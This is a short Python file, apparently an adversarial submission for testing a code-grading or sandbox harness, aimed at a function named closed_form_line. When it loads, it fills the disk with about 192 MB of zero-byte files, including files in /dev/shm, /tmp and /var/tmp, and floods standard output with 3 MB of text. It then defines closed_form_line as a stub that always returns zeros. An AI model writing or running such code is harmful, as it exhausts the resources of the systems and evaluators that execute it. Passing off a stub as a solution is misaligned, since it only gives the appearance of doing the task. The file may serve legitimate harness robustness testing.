"""Fill the disk, and flood the output.

Attacked: closed_form_line
"""

# %% closed_form_line

for number in range(3):
    try:
        with open(f"owned{number}", "wb") as file:
            for _ in range(64):
                file.write(bytes(1 << 20))
    except OSError:
        pass
for place in ("/dev/shm/owned", "/tmp/owned", "/var/tmp/owned"):
    try:
        open(place, "wb").write(bytes(1 << 20))
    except OSError:
        pass
for _ in range(3000):
    print("x" * 1000)
def closed_form_line(x, y):
    return 0.0, 0.0
